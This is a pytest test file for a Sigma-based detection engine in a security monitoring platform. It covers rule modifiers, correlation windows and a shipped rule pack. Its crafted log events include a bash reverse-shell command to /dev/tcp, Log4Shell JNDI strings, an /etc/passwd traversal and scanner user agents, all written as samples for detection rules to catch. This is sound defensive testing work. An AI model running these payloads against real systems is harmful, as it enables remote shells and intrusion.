"""pySigma-loaded rules on crafted events: each modifier, each condition form, correlation windows at
their edges, the shipped pack."""

from datetime import UTC, datetime, timedelta

import pytest

from smartgov.audit.models import AuditEntry
from smartgov.core.permissions import Role
from smartgov.seccloud import detection
from smartgov.seccloud.models import Alert, Incident, Rule
from tests import factories

from .factories import ADMIN, http_source, load_pack, send


def _rule(detection_yaml: str):
    text = f"""
title: t
id: 11111111-1111-4111-8111-111111111111
logsource: {{product: test}}
level: high
detection:
{detection_yaml}
"""
    (c,) = [detection.compile_rule(r) for r in detection.load_rules(text)]
    return c.match


def ev(**kw):
    base = {"host": "", "app": "", "user": "", "src_ip": "", "action": "", "outcome": "", "message": "", "raw": ""}
    return {**base, **kw}


def test_plain_value_is_case_insensitive_equality():
    m = _rule("  sel: {user: Admin}\n  condition: sel")
    assert m(ev(user="admin")) and m(ev(user="ADMIN")) and not m(ev(user="admin2"))


def test_contains_startswith_endswith():
    assert _rule("  sel: {message|contains: ab}\n  condition: sel")(ev(message="xxABxx"))
    assert not _rule("  sel: {message|contains: ab}\n  condition: sel")(ev(message="a b"))
    assert _rule("  sel: {host|startswith: web}\n  condition: sel")(ev(host="Web01"))
    assert not _rule("  sel: {host|startswith: web}\n  condition: sel")(ev(host="myweb"))
    assert _rule("  sel: {host|endswith: .gov.cn}\n  condition: sel")(ev(host="a.gov.cn"))
    assert not _rule("  sel: {host|endswith: .gov.cn}\n  condition: sel")(ev(host="a.gov.cn.evil"))


def test_wildcards_in_plain_values():
    m = _rule("  sel: {path: '/a*/b?c'}\n  condition: sel")
    assert m(ev(path="/a/x/y/bXc")) and not m(ev(path="/a/bc"))


def test_re_is_case_sensitive_unless_flagged():
    m = _rule("  sel: {user|re: '^adm[0-9]+$'}\n  condition: sel")
    assert m(ev(user="adm42")) and not m(ev(user="ADM42")) and not m(ev(user="adm"))
    mi = _rule("  sel: {user|re|i: '^adm'}\n  condition: sel")
    assert mi(ev(user="ADMx"))


def test_cidr():
    m = _rule("  sel: {src_ip|cidr: [10.0.0.0/8, '2001:db8::/32']}\n  condition: sel")
    assert m(ev(src_ip="10.200.1.1")) and m(ev(src_ip="2001:db8::1"))
    assert not m(ev(src_ip="11.0.0.1")) and not m(ev(src_ip="not-an-ip"))


def test_list_is_or_and_all_modifier_is_and():
    any_of = _rule("  sel: {message|contains: [foo, bar]}\n  condition: sel")
    all_of = _rule("  sel: {message|contains|all: [foo, bar]}\n  condition: sel")
    assert any_of(ev(message="foo")) and not all_of(ev(message="foo"))
    assert all_of(ev(message="bar foo"))


def test_keywords_search_the_message():
    m = _rule("  keywords: [sqlmap, 'union select']\n  condition: keywords")
    assert m(ev(message="GET /?q=1 UNION SELECT")) and not m(ev(message="harmless"))


def test_and_or_not_and_selectors():
    m = _rule("  sel_a: {user: a}\n  sel_b: {user: b}\n  filt: {host: safe}\n"
              "  condition: 1 of sel_* and not filt")
    assert m(ev(user="a")) and m(ev(user="b")) and not m(ev(user="a", host="safe")) and not m(ev(user="c"))
    m = _rule("  s1: {user: a}\n  s2: {host: h}\n  condition: all of s*")
    assert m(ev(user="a", host="h")) and not m(ev(user="a"))
    m = _rule("  s1: {user: a}\n  s2: {host: h}\n  condition: s1 or s2")
    assert m(ev(host="h")) and not m(ev())


def test_numeric_comparison_and_null():
    m = _rule("  sel: {hour|lt: 6}\n  condition: sel")
    assert m(ev(hour=3)) and not m(ev(hour=6))
    m = _rule("  sel: {user: null}\n  condition: sel")
    assert m(ev()) and not m(ev(user="x"))


def test_a_broken_rule_is_refused_with_pysigmas_reason():
    with pytest.raises(detection.RuleError):
        detection.load_rules("title: t\nlogsource: {product: x}\ndetection:\n  sel: {a: b}\n  condition: nope\n")[0] \
            and detection.compile_rule(detection.load_rules(
                "title: t\nlogsource: {product: x}\ndetection:\n  sel: {a: b}\n  condition: nope\n")[0])


@pytest.mark.django_db
def test_upload_of_a_broken_rule_changes_nothing():
    from smartgov.core.errors import InvalidInput
    from smartgov.seccloud import services

    with pytest.raises(InvalidInput):
        services.upload_rules(actor=ADMIN, yaml_text="title: t\nlogsource: {product: x}\ndetection:\n  condition: sel\n")
    assert Rule.objects.count() == 0


def _json_line(at, **kw):
    import orjson

    return orjson.dumps({"time": at.isoformat(), **kw}).decode()


@pytest.mark.django_db
def test_correlation_window_edges():
    """SSH brute force: ≥10 failures from one address in 1 minute. Ten failures spanning 59.999 s
    alert; ten spanning exactly 60 s do not (the first has left the window)."""
    load_pack()
    source, _ = http_source()
    t0 = datetime(2026, 12, 4, 3, 0, tzinfo=UTC)
    fail = {"app": "sshd", "action": "ssh.login", "outcome": "failure", "user": "root"}
    # 10 events from .1: the last at +60 s exactly → no alert
    lines = [_json_line(t0 + timedelta(seconds=60 * i / 9), src_ip="10.0.0.1", **fail) for i in range(10)]
    send(source, lines, kind="json")
    brute = Rule.objects.get(title__startswith="SSH暴力破解")
    assert not Alert.objects.filter(rule=brute).exists()
    # 10 events from .2 within 59.999 s → one alert, one incident
    lines = [_json_line(t0 + timedelta(seconds=59.999 * i / 9), src_ip="10.0.0.2", **fail) for i in range(10)]
    out = send(source, lines, kind="json")
    alerts = Alert.objects.filter(rule=brute)
    assert out["alerts"] == 1 and alerts.count() == 1
    assert alerts[0].group_key == "src_ip=10.0.0.2" and len(alerts[0].event_seqs) == 10
    assert "attack.t1110.001" in alerts[0].tags
    # the 11th in the same window does not alert again; the single failures themselves never alert
    send(source, [_json_line(t0 + timedelta(seconds=59.9999), src_ip="10.0.0.2", **fail)], kind="json")
    assert alerts.count() == 1
    assert not Alert.objects.filter(rule__title="SSH登录失败").exists()
    assert Incident.objects.filter(group_key__endswith="src_ip=10.0.0.2").count() == 1


@pytest.mark.django_db
def test_correlation_counts_across_batches():
    load_pack()
    source, _ = http_source()
    t0 = datetime(2026, 12, 4, 3, 0, tzinfo=UTC)
    fail = {"app": "sshd", "action": "ssh.login", "outcome": "failure"}
    for i in range(10):
        send(source, [_json_line(t0 + timedelta(seconds=i), src_ip="10.0.0.3", **fail)], kind="json")
    assert Alert.objects.filter(rule__title__startswith="SSH暴力破解").count() == 1


@pytest.mark.django_db
def test_shipped_pack_has_at_least_50_rules_and_catches_its_cases():
    saved = load_pack()
    assert len(saved) >= 50 and all(r.enabled for r in saved)
    source, _ = http_source()
    at = datetime(2026, 12, 4, 15, 0, tzinfo=UTC)  # 23:00 in Asia/Shanghai
    send(source, [
        _json_line(at, action="accounts.login.succeeded", user="sys", actor_role="sysadmin", src_ip="8.8.8.8"),
        _json_line(at, action="accounts.user.set_role", user="sys"),
        _json_line(at, action="audit.verify.failed"),
        _json_line(at, action="http.request", src_ip="1.2.3.4", path="/.git/config", user_agent="Nuclei"),
    ], kind="json")
    titles = set(Alert.objects.values_list("rule__title", flat=True))
    assert {"管理员非工作时间登录（22:00–06:00）", "管理员从新地点登录（非内网地址）", "角色或权限变更",
            "审计日志链校验失败", "Web扫描：探测 .git 仓库", "扫描器User-Agent：nuclei"} <= titles


@pytest.mark.django_db
def test_rules_run_over_history():
    from smartgov.seccloud import services

    source, _ = http_source()
    at = datetime(2026, 12, 4, 3, 0, tzinfo=UTC)
    send(source, [_json_line(at, action="accounts.user.set_role", user="x")], kind="json")
    assert Alert.objects.count() == 0  # no rules yet
    load_pack()
    out = services.run_rules_over_history(actor=ADMIN, since=at - timedelta(days=1))
    assert out == {"scanned": 1, "alerts": 1}
    rule = Rule.objects.get(title="角色或权限变更")
    assert services.dry_run_rule(actor=ADMIN, rule=rule)["matched"] == 1


@pytest.mark.django_db
@pytest.mark.parametrize("text", [
    "\U0003a05e\U000b0fe8(\U00086b4f\u00aa",  # a bare scalar: the schemathesis case that gave a 500
    "- a\n- b\n",  # a list
    "title: t\n---\njust text\n",  # a rule followed by a scalar document
    "title: [1, 2]\nlogsource: {product: x}\ndetection: {sel: {a: b}, condition: sel}\n",  # wrong field type
])
def test_upload_of_a_document_that_is_not_a_rule_is_a_422_and_changes_nothing(text):
    client = factories.staff_client(factories.user(Role.SECADMIN))
    entries = AuditEntry.objects.count()
    r = client.post("/api/seccloud/rules", {"yaml": text}, content_type="application/json")
    assert r.status_code == 422, r.content
    assert r.json()["code"] in {"bad_sigma_rule", "bad_rule_yaml"}
    assert Rule.objects.count() == 0
    assert AuditEntry.objects.count() == entries


def _pack_events():
    from smartgov.seccloud import bench, normalize, syslog

    now = "2026-12-04T15:30:00.000001Z"  # 23:30 in Asia/Shanghai: off-hours
    lines = [bench._syslog_line(i, now) for i in range(40)]
    lines += [
        f'<13>1 {now} h smartgov - - [sg@1 user="root" src_ip="8.8.8.8" action="accounts.login.succeeded" '
        f'actor_role="secadmin"] signed in',
        f'<14>1 {now} h nginx - - - 1.2.3.4 - - [04/Dec/2026:10:00:00 +0800] "GET /a?q=${{jndi:ldap://x}} HTTP/1.1" '
        f'200 1 "-" "curl"',
        f'<14>1 {now} h nginx - - - 1.2.3.4 - - [04/Dec/2026:10:00:00 +0800] "GET / HTTP/1.1" 200 1 "-" '
        f'"${{jndi:ldap://x}}"',
        f'<14>1 {now} h nginx - - - 1.2.3.4 - - [04/Dec/2026:10:00:00 +0800] "GET /wp-login.php?x=../../etc/passwd '
        f'HTTP/1.1" 404 1 "-" "sqlmap/1.7 Nikto"',
        f"<38>1 {now} h bash - - - bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        f"<86>1 {now} h sudo - - - ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
    ]
    return [normalize.flat(normalize.from_syslog(syslog.parse(x), x)) for x in lines]


def test_the_pack_index_skips_no_matching_rule():
    """Indexing only decides which rules are tried: the matches equal trying every rule on every event."""
    from pathlib import Path

    import smartgov.seccloud as pkg

    text = (Path(pkg.__file__).parent / "rules" / "pack.yml").read_text()
    pack = detection.RulePack([detection.compile_rule(r) for r in detection.load_rules(text)])
    events = _pack_events()
    for e in events:
        assert {d.rule_id for d in pack.matches(e)} == {d.rule_id for d in pack.detections if d.match(e)}
    titles = {d.title for e in events for d in pack.matches(e)}
    assert {"管理员非工作时间登录（22:00–06:00）", "Log4Shell JNDI 注入", "疑似反弹shell命令"} <= titles
    # an OR whose branches share a key is indexed (off-hours, Log4Shell): only the regex rule runs always
    assert [d.title for d in pack.always] == ["疑似反弹shell命令"]


def test_an_or_of_branches_on_different_fields_is_tried_on_every_event():
    text = """
title: t
id: 11111111-1111-4111-8111-111111111112
logsource: {product: test}
detection:
  a: {path|contains: evil}
  b: {user_agent|contains: evil}
  condition: a or b
"""
    (c,) = [detection.compile_rule(r) for r in detection.load_rules(text)]
    assert c.index_key is None
    pack = detection.RulePack([c])
    assert pack.matches(ev(user_agent="EVIL bot")) == [c] and pack.matches(ev(path="/x")) == []
